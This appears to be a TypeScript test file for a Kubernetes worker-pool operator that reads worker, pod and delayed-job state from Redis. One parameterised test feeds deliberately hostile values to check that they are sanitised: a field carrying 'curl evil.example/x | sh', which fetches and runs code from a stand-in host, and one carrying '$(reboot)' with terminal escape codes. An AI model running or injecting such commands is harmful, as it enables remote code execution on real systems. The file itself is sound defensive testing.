// What a pool takes over of what others may have written: words of workers in Redis, pods with its labels, the time of a delayed job.

import { connectRedis, newJob, openQueue, prefixOf } from 'millhand/queue'
import { emptyMemory } from '../../../control/src/decide/memory.ts'
import type { ObservedWorker } from '../../../control/src/decide/observed.ts'
import { observeWorkerPool } from '../../../control/src/reconcile/observe-pool.ts'
import type { OwnerReference } from '../../../control/src/resources/metadata.ts'
import type { WorkerPoolObject } from '../../../control/src/resources/worker-pool.ts'
import type { Pod } from '../../../operator/src/fleet/cluster.ts'
import { declared } from '../../control/reconcile/declared.ts'
import { openServers } from '../../control/redis/open-servers.ts'
import { eventually } from '../../eventually.ts'
import { redisUrl } from '../../redis.ts'
import { fleetThatShows } from './observed.ts'

const { servers, clock, stirs } = openServers({ 'millhand-redis': redisUrl() })
const redis = connectRedis(redisUrl())
afterAll(() => {
  servers.close()
  redis.close()
})

const NAME = `shop.observe-${process.pid}`

async function observe(pods: Pod[] = []) {
  const queue = { ...declared(), status: { observedGeneration: 1, queueName: NAME, conditions: [] } }
  const object = {
    metadata: { name: 'mail', namespace: 'shop', uid: 'pool-uid', generation: 1 },
    spec: { ...manifest, queues: [{ name: 'mail' }] },
  } as unknown as WorkerPoolObject
  const world = {
    get: () => queue as never,
    find: () => [object] as never[],
    fleet: () => fleetThatShows(pods),
  }
  const memory = emptyMemory('pool-uid')
  return (await observeWorkerPool(object, { world, servers, memory })).observed
}
const manifest = {
  slots: 1,
  replicas: 0,
  isolation: { mode: 'Fork' },
  drain: { timeoutSeconds: 30 },
  rollout: { maxSurge: '25%', maxUnavailable: 0, progressDeadlineSeconds: 600 },
  scaling: {
    mode: 'Automatic',
    minReplicas: 0,
    maxReplicas: 10,
    target: { type: 'Concurrency' },
    behavior: {
      scaleUp: { stabilizationWindowSeconds: 0, selectPolicy: 'Max', policies: [] },
      scaleDown: { stabilizationWindowSeconds: 60, selectPolicy: 'Max', policies: [] },
    },
  },
  template: { spec: { containers: [{ name: 'worker', image: 'a' }] } },
}

test.each([
  ['Fork', '', { isolation: 'Fork' }],
  [
    'Spawn',
    'Fork needs glibc, and this Node uses another C library (musl, as on Alpine)',
    { isolation: 'Spawn', fallback: expect.stringMatching(/^Fork needs glibc.*Alpine\)$/) },
  ],
  ['x --overwrite; curl evil.example/x | sh #', '', {}],
  ['Fork', '\u001b[31m`$(reboot)`\n<b>|&"', { isolation: 'Fork', fallback: '31m(reboot)b' }],
  ['Fork', 'a'.repeat(10_000), { isolation: 'Fork', fallback: 'a'.repeat(120) }],
])(
  'of a worker whose isolation is %j, with the note %j, %j is told',
  async (isolation, isolationNote, told) => {
    const queue = openQueue(redis, NAME)
    const entry = {
      worker: 'w:1',
      process: 'w',
      pod: 'p',
      podUid: 'u',
      poolUid: 'pool-uid',
      node: 'n',
      slots: 1,
    }
    await queue.register({ ...entry, version: '1', isolation, isolationNote })
    clock.skippedMs += 1_000
    const { workers } = await observe()
    const [{ isolation: mode, fallback } = {}] = workers as ObservedWorker[]
    expect({ ...(mode && { isolation: mode }), ...(fallback && { fallback }) }).toEqual(told)
  },
)

test('pods count that a ReplicaSet of the Deployment made, and none that merely look like them', async () => {
  const pod = (name: string, owner: Partial<OwnerReference>, hash?: string): Pod => ({
    metadata: {
      name,
      namespace: 'shop',
      uid: name,
      labels: { 'millhand.dev/pool': 'mail', ...(hash && { 'pod-template-hash': hash }) },
      ownerReferences: [
        { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: '', uid: 'r', controller: true, ...owner },
      ],
    },
  })
  const { fleet } = await observe([
    pod('good', { name: 'mail-5d8f' }, '5d8f'),
    pod('by-hand', { name: 'mail-x' }),
    pod('of-another-template', { name: 'mail-x' }, '5d8f'),
    pod('of-another-pool', { name: 'mail-slow-5d8f' }, '5d8f'),
    pod('of-no-replicaset', { name: 'mail-5d8f', kind: 'Job' }, '5d8f'),
    pod('not-controlled', { name: 'mail-5d8f', controller: false }, '5d8f'),
  ])
  expect(fleet.pods.map(({ name }) => name)).toEqual(['good'])
})

test('the time until a delayed job is from now, not from when it was seen', async () => {
  stirs.length = 0
  await openQueue(redis, NAME).enqueue([newJob('task', 1, { delayMs: 60_000 })])
  // Whoever is told that there is something new looks at once.
  await eventually(() => stirs.length > 0)
  clock.skippedMs += 1_000
  const [first] = (await observe()).queues
  clock.skippedMs += 150
  const [second] = (await observe()).queues
  expect(first?.nextMs).toBeGreaterThan(59_000)
  expect((first?.nextMs ?? 0) - (second?.nextMs ?? 0)).toBeGreaterThanOrEqual(150)
})

test('a queue that rests is stopped, and looked at again when its rest is over', async () => {
  await redis.call('ZADD', `${prefixOf(NAME)}rests`, Date.now() + 3_600_000, '*')
  clock.skippedMs += 1_000
  const [queue] = (await observe()).queues
  expect(queue?.load).toMatchObject({ isStopped: true })
  expect(queue?.nextMs).toBeGreaterThan(3_500_000)
})
